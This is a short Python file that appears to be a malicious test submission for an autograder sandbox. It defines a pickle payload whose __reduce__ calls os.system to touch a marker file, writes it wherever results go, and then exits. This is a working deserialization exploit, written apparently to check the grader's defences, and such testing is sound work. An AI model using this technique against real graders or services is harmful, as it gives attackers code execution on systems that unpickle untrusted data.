# mypy: ignore-errors
# result: killed
# points: at most 6
"""Sends pickled commands where the results go."""
import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch " + TARGETS["course"] + "/unpickled",)


def backward(x, y, w0, w1, w2, ws):
    write_everywhere(pickle.dumps(Command()))
    os._exit(0)
